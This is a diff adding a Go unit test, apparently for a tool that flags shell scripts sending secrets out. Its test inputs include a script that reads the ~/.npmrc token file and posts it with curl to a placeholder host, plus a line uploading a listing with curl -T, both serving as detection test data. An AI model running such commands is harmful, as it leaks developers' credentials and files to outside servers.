@@ -195,3 +195,13 @@ func TestShellSendsGitCredentials(t *testing.T) {
 		}
 	}
 }
+
+func TestJoinScript(t *testing.T) {
+	got := JoinScript("#!/usr/bin/env bash\nT=$(cat ~/.npmrc)\ncurl -d \"$T\" https://c.example.invalid/")
+	if want := `T=$(cat ~/.npmrc) ; curl -d "$T" https://c.example.invalid/`; got != want {
+		t.Errorf("JoinScript = %q, want %q", got, want)
+	}
+	if ShellSendsSecrets(JoinScript("#!/usr/bin/env bash\nls | curl -T - https://up.example.invalid/")) != "" {
+		t.Error("the interpreter line read as an environment dump")
+	}
+}
